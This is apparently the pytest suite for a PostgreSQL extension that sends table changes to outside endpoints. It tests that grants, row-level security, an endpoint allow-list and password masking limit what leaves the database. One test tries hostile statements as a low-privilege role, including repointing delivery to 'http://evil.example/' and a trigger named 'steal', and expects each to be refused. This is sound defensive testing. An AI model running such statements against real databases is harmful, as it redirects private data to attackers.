"""End to end: the send-as role bounds what leaves the database. PostgreSQL's own rules decide
(column grants, table grants, row-level security, BYPASSRLS, ownership), at the time of each
change, and no value the role cannot SELECT ever reaches a listener."""

import psycopg
import pytest

from support.cluster import wait_for, worker_state
from support.roles import drop_roles

ROLES = ["sec_reader", "sec_bypass", "sec_owner", "sec_user"]


@pytest.fixture
def secured(db):
    """Table `ledger` (owned by sec_owner) and roles: sec_reader reads id, region and name;
    sec_bypass has BYPASSRLS and reads everything; sec_user writes the table (BYPASSRLS, so
    that its own statements are not what row-level security filters)."""
    db.execute("DROP TABLE IF EXISTS ledger")
    drop_roles(db, ROLES)
    db.execute("CREATE ROLE sec_reader")
    db.execute("CREATE ROLE sec_bypass BYPASSRLS")
    db.execute("CREATE ROLE sec_owner")
    db.execute("CREATE ROLE sec_user LOGIN BYPASSRLS")
    db.execute("CREATE TABLE ledger (id int PRIMARY KEY, region text, name text, salary int)")
    db.execute("ALTER TABLE ledger OWNER TO sec_owner")
    db.execute("GRANT SELECT (id, region, name) ON ledger TO sec_reader")
    db.execute("GRANT SELECT ON ledger TO sec_bypass")
    db.execute("GRANT INSERT, UPDATE, SELECT ON ledger TO sec_user")
    yield "ledger"
    db.execute("DROP TABLE IF EXISTS ledger")
    drop_roles(db, ROLES)


def define(db, url, send_as, fields, unique_name="Ledger"):
    db.execute("SELECT outbound_msg.create_message('ledger', 'Ledger', %s, %s, %s, %s::regrole)",
               (unique_name, url, fields, send_as))


def delivered(listener, db, count):
    wait_for(lambda: len(listener.notifications()) >= count and db.execute(
        "SELECT count(*) FROM outbound_msg.queue n JOIN outbound_msg.message m "
        "ON m.id = n.message_id WHERE m.object = 'ledger'::regclass").fetchone()[0] == 0,
        what=f"{count} deliveries and an empty queue")
    return {n["fields"]["Id"]: n["fields"] for n in listener.notifications()}


def test_a_grant_revoked_after_definition_stops_that_column_leaving(db, secured, listener):
    db.execute("GRANT SELECT (salary) ON ledger TO sec_reader")
    define(db, listener.url, "sec_reader", ["name", "salary"])
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1000)")
    db.execute("REVOKE SELECT (salary) ON ledger FROM sec_reader")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2000)")
    by_id = delivered(listener, db, 2)
    assert by_id["1"] == {"Id": "1", "name": "Ada", "salary": "1000"}
    assert by_id["2"] == {"Id": "2", "name": "Bob"}
    assert all(b"2000" not in r["body"] for r in listener.requests)


def test_without_select_on_the_key_nothing_is_sent(db, secured, listener):
    define(db, listener.url, "sec_reader", ["name"])
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1)")
    delivered(listener, db, 1)
    db.execute("REVOKE SELECT (id) ON ledger FROM sec_reader")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2)")
    db.execute("GRANT SELECT (id) ON ledger TO sec_reader")
    db.execute("INSERT INTO ledger VALUES (3, 'eu', 'Cy', 3)")
    assert sorted(delivered(listener, db, 2)) == ["1", "3"]


def test_rows_hidden_by_row_level_security_never_leave(db, secured, listener):
    db.execute("ALTER TABLE ledger ENABLE ROW LEVEL SECURITY")
    db.execute("CREATE POLICY eu_only ON ledger FOR SELECT TO sec_reader USING (region = 'eu')")
    define(db, listener.url, "sec_reader", ["name", "region"])
    with psycopg.connect(host="127.0.0.1", port=db.info.port, user="sec_user",
                         dbname="postgres", autocommit=True) as user:
        user.execute("SET row_security = off")  # a session setting changes nothing
        user.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1), (2, 'us', 'Bob', 2)")
        user.execute("UPDATE ledger SET region = 'eu' WHERE id = 2")
        user.execute("UPDATE ledger SET region = 'us' WHERE id = 1")
    by_id = delivered(listener, db, 2)
    assert sorted((n["fields"]["Id"], n["fields"]["region"]) for n in listener.notifications()) \
        == [("1", "eu"), ("2", "eu")]
    assert all(b"<sf:region>us</sf:region>" not in r["body"] for r in listener.requests)
    assert set(by_id) == {"1", "2"}


def test_bypassrls_and_owners_see_what_postgresql_lets_them_see(db, secured, listener):
    db.execute("ALTER TABLE ledger ENABLE ROW LEVEL SECURITY")
    db.execute("CREATE POLICY none_for_anyone ON ledger FOR SELECT USING (false)")
    define(db, listener.url, "sec_bypass", ["name"], "Bypass")
    define(db, listener.url, "sec_owner", ["name"], "Owner")
    define(db, listener.url, "sec_reader", ["name"], "Reader")
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1)")
    wait_for(lambda: len(listener.notifications()) == 2, what="bypass and owner deliveries")
    db.execute("ALTER TABLE ledger FORCE ROW LEVEL SECURITY")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2)")
    wait_for(lambda: len(listener.notifications()) == 3, what="the bypass delivery of row 2")
    actions = {}
    for message in listener.received():
        for n in message["notifications"]:
            actions.setdefault(n["fields"]["Id"], set()).add(message["action_id"])
    assert len(actions["1"]) == 2, "row 1: BYPASSRLS role and owner (not forced)"
    assert len(actions["2"]) == 1, "row 2: only the BYPASSRLS role once RLS is forced"


def test_send_omits_columns_the_role_cannot_read(db, secured, listener):
    db.execute("GRANT SELECT (salary) ON ledger TO sec_reader")
    define(db, listener.url, "sec_reader", ["name", "salary"])
    db.execute("REVOKE SELECT (salary) ON ledger FROM sec_reader")
    db.execute("ALTER TABLE ledger DISABLE TRIGGER outbound_msg_capture")
    db.execute("INSERT INTO ledger VALUES (7, 'eu', 'Ada', 7000)")
    db.execute("SELECT outbound_msg.send('ledger', 'Ledger', '7')")
    assert delivered(listener, db, 1)["7"] == {"Id": "7", "name": "Ada"}


def test_no_one_else_can_forge_queue_rows_or_reuse_the_trigger(cluster, db, secured):
    define(db, "http://127.0.0.1:9/", "sec_reader", ["name"])
    with cluster.connect(user="sec_user") as user:
        user.execute("CREATE TEMP TABLE mine (id int PRIMARY KEY)")
        for sql in [
            "INSERT INTO outbound_msg.queue (message_id, record_ids, payloads) "
            "VALUES (1, '{1}', '{<sf:Id>1</sf:Id>}')",
            "UPDATE outbound_msg.message SET endpoint_url = 'http://evil.example/'",
            "SELECT * FROM outbound_msg.message_stats",
            "CREATE TRIGGER steal AFTER INSERT ON mine "
            "FOR EACH ROW EXECUTE FUNCTION outbound_msg.capture()",
            "SELECT outbound_msg.send('ledger', 'Ledger', '1')",
        ]:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                user.execute(sql)


# Endpoints and secrets


@pytest.fixture
def plain(db):
    db.execute("DROP TABLE IF EXISTS plain")
    db.execute("CREATE TABLE plain (id int PRIMARY KEY, v text)")
    yield "plain"
    db.execute("DROP TABLE IF EXISTS plain")


def create_plain(db, url, unique_name="Plain"):
    return db.execute("SELECT outbound_msg.create_message('plain', 'Plain', %s, %s, ARRAY['v'], "
                      "'postgres')", (unique_name, url)).fetchone()[0]


def test_allowed_endpoints_is_superuser_only_and_checked_at_definition(cluster, db, plain,
                                                                      reload_with):
    db.execute("DROP ROLE IF EXISTS sec_plain")
    db.execute("CREATE ROLE sec_plain LOGIN")
    try:
        with cluster.connect(user="sec_plain") as user:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                user.execute("SET outbound_msg.allowed_endpoints = '*'")
    finally:
        db.execute("DROP ROLE sec_plain")
    reload_with(allowed_endpoints="erp.example.com, *.corp.example")
    with pytest.raises(psycopg.errors.InsufficientPrivilege,
                       match="is not allowed by outbound_msg.allowed_endpoints"):
        create_plain(db, "https://evil.example.net/soap")
    assert messages_on_plain(db) == 0
    create_plain(db, "https://erp.example.com/soap", "Erp")
    create_plain(db, "https://crm.corp.example/soap", "Crm")
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        db.execute("SELECT outbound_msg.alter_message('plain', 'Erp', "
                   "endpoint_url => 'https://corp.example/')")


def messages_on_plain(db):
    return db.execute("SELECT count(*) FROM outbound_msg.message "
                      "WHERE object = 'plain'::regclass").fetchone()[0]


def test_allowed_endpoints_is_checked_again_before_each_send(db, plain, listener, reload_with):
    message_id = create_plain(db, listener.url)
    # Queue a notification while delivery is paused, then narrow the list and resume in one
    # reload: the worker applies both together, so its first send meets the new list.
    reload_with(pause_delivery="on")
    db.execute("SELECT outbound_msg.wake_worker()")
    wait_for(lambda: worker_state(db) == "paused", what="the worker to pause")
    db.execute("INSERT INTO plain VALUES (1, 'x')")
    reload_with(allowed_endpoints="erp.example.com", pause_delivery="off")
    db.execute("SELECT outbound_msg.wake_worker()")
    error = wait_for(lambda: db.execute(
        "SELECT last_error FROM outbound_msg.queue WHERE message_id = %s",
        (message_id,)).fetchone()[0], what="the send to be refused")
    assert error == "endpoint host is not allowed by outbound_msg.allowed_endpoints"
    assert listener.requests == [], "nothing reached the endpoint"


def test_url_credentials_become_basic_authentication(db, plain, listener):
    url = listener.url.replace("http://", "http://svc:s3cr%40t@")
    create_plain(db, url)
    db.execute("INSERT INTO plain VALUES (1, 'x')")
    wait_for(lambda: listener.requests, what="a delivery")
    request = listener.requests[0]
    assert request["headers"]["authorization"] == "Basic c3ZjOnMzY3JAdA=="  # svc:s3cr@t
    assert request["path"] == "/notify"


def test_passwords_never_show_in_errors_views_wsdl_or_the_server_log(cluster, db, plain):
    secret = "Sup3rS3cret"
    db.execute("ALTER SYSTEM SET log_statement = 'all'")
    db.execute("SELECT pg_reload_conf()")
    try:
        with pytest.raises(psycopg.errors.InvalidParameterValue) as refused:
            create_plain(db, f"ftp://svc:{secret}@erp.example/")
        assert secret not in str(refused.value) and "svc:********@" in str(refused.value)
        with pytest.raises(psycopg.errors.UndefinedColumn):
            db.execute("SELECT outbound_msg.create_message('plain', 'P', 'P', %s, ARRAY['nope'], "
                       "'postgres')", (f"https://svc:{secret}@127.0.0.1:9/",))
        create_plain(db, f"https://svc:{secret}@127.0.0.1:9/soap")
        db.execute("INSERT INTO plain VALUES (1, 'x')")
        for view in ["messages", "delivery_status"]:
            rows = db.execute(f"SELECT endpoint_url FROM outbound_msg.{view}").fetchall()
            assert rows and all(secret not in r[0] for r in rows)
        wsdl = db.execute("SELECT outbound_msg.wsdl('plain', 'Plain')").fetchone()[0]
        assert secret not in wsdl and "svc:********@127.0.0.1:9" in wsdl
        wait_for(lambda: db.execute("SELECT last_error FROM outbound_msg.queue n JOIN "
                                    "outbound_msg.message m ON m.id = n.message_id "
                                    "WHERE m.object = 'plain'::regclass").fetchone()[0],
                 what="a failed attempt")
        errors = db.execute("SELECT last_error FROM outbound_msg.queue").fetchall()
        assert all(secret not in (e[0] or "") for e in errors)
        db.execute("SELECT 1 /* marker: log written */")
        wait_for(lambda: "marker: log written" in cluster.log(), what="the server log")
        log = cluster.log()
        assert "svc:********@" in log, "the statements were logged, masked"
        assert secret not in log
    finally:
        db.execute("ALTER SYSTEM RESET log_statement")
        db.execute("SELECT pg_reload_conf()")
